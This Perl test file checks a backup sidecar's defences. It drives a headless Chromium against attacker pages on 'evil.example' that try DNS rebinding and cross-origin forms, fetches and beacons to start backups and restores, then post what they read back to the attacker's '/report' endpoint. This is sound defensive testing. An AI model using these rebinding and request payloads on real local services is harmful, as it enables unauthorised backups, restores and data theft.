# What a web page can have a browser do that reaches a sidecar: a real Chromium, pages that attack,
# and a sidecar at whose addresses everyone may do everything, so that nothing but what the browser
# says of itself keeps the page out. PostgreSQL is not needed.
#
# The name evil.example leads to this host for the browser, as an attacker's name server has it. For
# DNS rebinding the attacker's server stands at the sidecar's ports first and serves its pages
# there; then the sidecar takes its place, and to the browser it is the same server.
use strict;
use warnings;
use IO::Select;
use IO::Socket::INET;
use JSON::PP;
use PgbrCluster;
use PgbrSandbox qw(spew wait_for);
use PgbrSidecarTest;
use Test::More;
use Time::HiRes qw(time);

my $json = JSON::PP->new->utf8->canonical;
my $cluster = PgbrCluster->new(preload => 0);
my $member = $cluster->member(1);
my $dir = $member->{dir};
my $fake =
  program($member, 'fake', qq{case "\${\@: -1}" in (info) echo '[{"name":"main"}]' ;; esac\n});
my $sidecar = PgbrSidecar->new($member);
my %port = (
	api => $sidecar->{port},
	map { $_ => $cluster->sandbox->port } qw(compat daemon daemon-backup metrics));
my @options = (
	"--pgbackrest=$fake", '--insecure-no-auth', '--compat-no-auth', '--metrics-no-auth',
	map { "--$_-listen=127.0.0.1:$port{$_}" } grep { $_ ne 'api' } sort keys %port);
my $site = $cluster->sandbox->port;
my $home = "http://evil.example:$site";

# --- the attacker's server
sub listen_at
{
	my ($port) = @_;
	return IO::Socket::INET->new(
		LocalAddr => '127.0.0.1',
		LocalPort => $port,
		Listen => 64,
		ReuseAddr => 1) || die "port $port: $!\n";
}

# Answer requests at sockets until $over gives true; $page gives the body for a path and what was
# sent. Gives the bodies that were posted to /report, decoded.
sub serve
{
	my ($sockets, $page, $over) = @_;
	my ($select, $end, @reports, %got) = (IO::Select->new(@$sockets), time + 60);
	my %listens = map { $_ => 1 } @$sockets;
	until ($over->(\@reports))
	{
		die "the browser took too long\n" if time > $end;
		for my $socket ($select->can_read(0.1))
		{
			if ($listens{$socket})
			{
				my $client = $socket->accept or next;
				$select->add($client);
				$got{$client} = '';
				next;
			}
			my $more = sysread $socket, $got{$socket}, 65536, length $got{$socket};
			if ($more)
			{
				my ($method, $path, $head, $body) =
				  $got{$socket} =~ m{\A(\w+) (\S+) (.*?\r\n)\r\n(.*)\z}s
				  or next;
				next if $head =~ /\r\ncontent-length: *(\d+)/i && length $body < $1;
				push @reports, $json->decode($body) if $method eq 'POST' && $path eq '/report';
				my $content = $path eq '/report' ? '' : $page->($path) // '';
				local $SIG{PIPE} = 'IGNORE';
				print $socket
				  "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nAccess-Control-Allow-Origin: *\r\nCache-Control: no-store\r\nConnection: close\r\nContent-Length: ",
				  length $content, "\r\n\r\n", $content;
			}
			$select->remove($socket);
			delete $got{$socket};
			close $socket;
		}
	}
	return @reports;
}

my $browsers = 0;

sub start_browser
{
	my ($url) = @_;
	my $profile = "$dir/browser" . ++$browsers;
	mkdir $profile or die "$profile: $!\n";
	local $ENV{HOME} = $profile;
	return $cluster->sandbox->spawn(
		$profile, "browser$browsers", 'chromium',
		qw(--headless=new --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking
		  --disable-component-update --disable-sync --disable-dev-shm-usage),
		"--user-data-dir=$profile/profile", '--host-resolver-rules=MAP evil.example 127.0.0.1', $url
	);
}

sub end_browser
{
	my ($pid) = @_;
	$cluster->sandbox->kill_below("$dir/browser$browsers");
	wait_for { !$cluster->sandbox->alive($pid) } 'the browser to be gone';
	return;
}

sub jobs { return scalar @{ $sidecar->http(GET => '/v1/jobs')->{json}{jobs} } }

# What the sidecar says of requests that it refused, since the last start.
my $seen = 0;

sub refusals
{
	my @lines = grep { / refused / } split /\n/, substr $sidecar->log, $seen;
	$seen = length $sidecar->log;
	return @lines;
}

# --- DNS rebinding
# of each address: requests that its page then makes, of its own origin: no header betrays them
my %own = (
	api => [
		[ GET => '/livez' ],
		[ GET => '/v1/jobs' ],
		[ POST => '/v1/jobs', 'application/json', '{"kind":"backup"}' ],
		[
			PUT => '/v1/restores/evil',
			'application/json',
			'{"holder":"evil","lease_seconds":60,"revision":1,"state":"active","document":{"a":1}}'
		]
	],
	compat => [
		[ POST => '/backup', 'application/json', '{}' ],
		[ POST => '/restore', 'application/json', '{"backupId":"x"}' ],
		[ GET => '/list' ]
	],
	daemon => [ [ POST => '/backup' ], [ GET => '/health' ] ],
	'daemon-backup' => [ [ POST => '/backup/diff' ] ],
	metrics => [ [ GET => '/metrics' ] ]);
{
	my ($gone, @places) = (0, map { listen_at($port{$_}) } sort keys %port);
	my %ready;
	my $page = sub {
		my ($path) = @_;
		return join '',
		  map { "<iframe src='http://evil.example:$port{$_}/page/$_'></iframe>" } sort keys %own
		  if $path eq '/rebind';
		return $gone ? 'yes' : 'no' if $path =~ m{^/gone/(.*)} and $ready{$1} = 1;
		my ($place) = $path =~ m{^/page/(.*)} or return;
		my $attacks = $json->encode($own{$place});
		return <<"END";
<script>
const pause = () => new Promise(done => setTimeout(done, 100));
(async () => {
	while (await (await fetch('$home/gone/$place')).text() != 'yes')
		await pause();
	const answers = [];
	for (const [method, path, type, body] of $attacks)
	{
		try
		{
			const answer = await fetch(path, {method, body, headers: type ? {'Content-Type': type} : {}});
			answers.push([method + ' ' + path, answer.status, await answer.text()]);
		}
		catch (error) { answers.push([method + ' ' + path, 0, String(error)]); }
	}
	await fetch('$home/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify({place: '$place', answers})});
})();
</script>
END
	};
	my $home_socket = listen_at($site);
	my $browser = start_browser("$home/rebind");
	serve([ $home_socket, @places ], $page, sub { keys %ready == keys %own });
	close $_ for @places;
	@places = ();
	$sidecar->start(@options);
	my $before = jobs();
	$gone = 1;
	my @reports = serve([$home_socket], $page, sub { @{ $_[0] } == keys %own });
	end_browser($browser);

	for my $report (sort { $a->{place} cmp $b->{place} } @reports)
	{
		for my $answer (@{ $report->{answers} })
		{
			my ($request, $status, $content) = @$answer;
			is($status, 421, "rebinding, $report->{place}: $request is refused") or diag $content;
			like(
				$content,
				qr/host \\?"evil\.example:\d+\\?" is not an IP address, localhost or a name of --allowed-host/,
				'and says why');
		}
	}
	is(jobs(), $before, 'rebinding: no job was made');
	is(scalar @{ $sidecar->http(GET => '/v1/restores')->{json}{restores} },
		0, 'and no restore begun');
	cmp_ok(scalar(refusals()), '>', 0, 'and the log tells');
}

# --- pages of another origin
# of each: how the page sends it, where to, and with what; the names of this host tell a browser
# more or less of whom it may trust
my @foreign = (
	[
		form => 'compat',
		'127.0.0.1', '/backup', 'application/x-www-form-urlencoded', 'timestamp', 'evil-1'
	],
	[
		form => 'compat',
		'localhost', '/backup/incr', 'application/x-www-form-urlencoded', 'timestamp', 'evil-2'
	],
	[
		form => 'compat',
		'127.0.0.1', '/restore', 'application/x-www-form-urlencoded', 'backupId', 'evil-3'
	],
	[ form => 'daemon', '127.0.0.1', '/backup', 'text/plain', 'a', 'b' ],
	[ form => 'daemon-backup', 'localhost', '/backup/diff', 'multipart/form-data', 'a', 'b' ],
	[ form => 'api', '127.0.0.1', '/v1/jobs', 'text/plain', '{"kind":"check","reason":"', '"}' ],
	[
		sandboxed => 'compat',
		'127.0.0.1', '/backup', 'application/x-www-form-urlencoded', 'timestamp', 'evil-4'
	],
	[
		fetch => 'compat',
		'127.0.0.1',
		'/backup',
		{
			mode => 'no-cors',
			method => 'POST',
			body => 'timestamp=evil-5',
			headers => { 'Content-Type' => 'application/x-www-form-urlencoded' }
		}
	],
	[ fetch => 'daemon', 'localhost', '/backup', { mode => 'no-cors', method => 'POST' } ],
	[
		fetch => 'api',
		'127.0.0.1',
		'/v1/jobs',
		{
			mode => 'cors',
			method => 'POST',
			body => '{"kind":"check"}',
			headers => { 'Content-Type' => 'application/json' }
		}
	],
	[ fetch => 'api', 'localhost', '/v1/jobs', { mode => 'cors', method => 'GET' } ],
	[ beacon => 'compat', '127.0.0.1', '/backup/diff' ],
	[ image => 'compat', '127.0.0.1', '/backup' ],
	[ image => 'api', 'localhost', '/v1/info' ],
	[ script => 'api', '127.0.0.1', '/v1/jobs' ],
	[ frame => 'daemon', '127.0.0.1', '/backup' ]);
{
	$sidecar->restart(@options);
	refusals();
	my $before = jobs();
	my @cases = map {
		my ($how, $place, $host, $path, @more) = @$_;
		[ $how, "http://$host:$port{$place}$path", @more ]
	} @foreign;
	my $page =
	  sub { return $_[0] ne '/foreign' ? undef : sprintf <<'END', $json->encode(\@cases), $home };
<body><script>
const cases = %s;
const loaded = element => new Promise(done => { element.onload = element.onerror = done; document.body.append(element); });
const make = (kind, set) => Object.assign(document.createElement(kind), set);
function form(url, type, name, value)
{
	const frame = make('iframe', {name: 'frame' + Math.random()});
	document.body.append(frame);
	const form = make('form', {method: 'POST', action: url, enctype: type, target: frame.name});
	form.append(make('input', {name, value}));
	document.body.append(form);
	return new Promise(done => { frame.onload = done; form.submit(); });
}
function sandboxed(url, type, name, value)
{
	const frame = make('iframe', {srcdoc: `<form method=POST action="${url}" enctype="${type}"><input name="${name}" value="${value}"></form><script>document.forms[0].submit()<` + '/script>'});
	frame.sandbox = 'allow-scripts allow-forms';
	return loaded(frame);
}
const send = {
	form, sandboxed,
	fetch: (url, set) => fetch(url, set).then(answer => answer.text()),
	beacon: url => navigator.sendBeacon(url, new URLSearchParams({timestamp: 'evil-6'})),
	image: url => loaded(make('img', {src: url})),
	script: url => loaded(make('script', {src: url})),
	frame: url => loaded(make('iframe', {src: url})),
};
(async () => {
	const read = [];
	for (const [how, url, ...more] of cases)
	{
		try { const text = await send[how](url, ...more); read.push(typeof text == 'string' ? text : ''); }
		catch (error) { read.push(''); }
	}
	await fetch('%s/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify({read})});
})();
</script></body>
END
	my $browser = start_browser("$home/foreign");
	my ($report) = serve([ listen_at($site) ], $page, sub { @{ $_[0] } == 1 });
	# a form in a frame is sent after the frame is there
	wait_for { $sidecar->log =~ /Origin is "null"/ } 'the last form to come';
	end_browser($browser);
	is_deeply([ grep { length } @{ $report->{read} } ],
		[], 'another origin: the page reads nothing');
	is(jobs(), $before, 'and no job was made');
	my @refusals = refusals();
	for my $case (@foreign)
	{
		my ($how, $place, $host, $path, $type) = @$case;
		# a page may look at what is shown to anyone; it gets to read none of it, and it changes
		# nothing
		next if $how =~ /image|script|frame/;
		my $sent = $how eq 'fetch' ? $type->{method} : 'POST';
		# the browser asks first whether it may send JSON
		$sent = 'OPTIONS'
		  if $how eq 'fetch' && ($type->{headers}{'Content-Type'} // '') eq 'application/json';
		my @of = grep { /refused $sent \Q$path\E from \S+: / } @refusals;
		ok(@of > 0, "another origin: $how, $sent to $host, $place$path: it came, and was refused")
		  or diag join "\n", @refusals;
		like($of[0] // '', qr/Origin is "(?:\Q$home\E|null)"/, 'for its origin');
	}
	ok((grep { /Origin is "null"/ } @refusals) > 0, 'one had no origin that it could tell');
	ok( (grep { /refused GET \/v1\/info from \S+: .*Sec-Fetch-Site is "cross-site"/ } @refusals) >
		  0,
		'and an image is known for what it is');
}

# --- without the browser's headers all this gets through
{
	my $curl = sub {
		my ($place, @arguments) = @_;
		my $url = "http://127.0.0.1:$port{$place}" . pop @arguments;
		my $status = `curl -s -o '$dir/answer' -w '%{http_code}' @arguments '$url'`;
		return $status;
	};
	my $count = jobs();
	for my $case (
		[ 200, compat => '-d timestamp=mine-1', '/backup' ],
		[ 200, daemon => '-d a=b', '/backup' ],
		[ 202, 'daemon-backup' => '-d a=b', '/backup/diff' ],
		[ 202, api => q(-H 'Content-Type: application/json' -d '{"kind":"check"}'), '/v1/jobs' ])
	{
		my ($status, @request) = @$case;
		is($curl->(@request), $status, "curl: POST to $request[0]$request[-1] is taken");
		is(jobs(), ++$count, 'and is a job');
	}
	is($curl->(api => "-H 'Host: evil.example'", '/livez'), 421, 'curl, with the name of another');
	is($curl->(api => "-H 'Origin: http://evil.example'", '/livez'),
		403, 'curl, with the origin of another');
	is($curl->(api => "-H 'Sec-Fetch-Site: same-site'", '/livez'), 403, 'curl, from another site');
	is( $curl->(
			api => "-H 'Origin: http://127.0.0.1:$port{api}' -H 'Sec-Fetch-Site: same-origin'",
			'/livez'),
		200,
		'curl, with its own');
	$sidecar->restart(
		@options,
		'--allowed-host=good.example,backrest',
		'--allowed-host=Pod-0.Backrest');
	is($curl->(api => "-H 'Host: $_'", '/livez'), 200, "--allowed-host: $_ is answered")
	  for 'good.example', 'BackRest:8430', 'pod-0.backrest.';
	is($curl->(compat => "-H 'Host: $_'", '/list'), 421, "--allowed-host: $_ is not")
	  for 'evil.example', 'pod-1.backrest', 'example';
	my ($status, $log) = refused($sidecar, @options, '--allowed-host=http://good.example');
	is($status, 2, '--allowed-host: what is no name is refused');
	like($log, qr/error: invalid value "http:\/\/good.example" for --allowed-host/, 'and why');
}
$sidecar->stop;

done_testing;
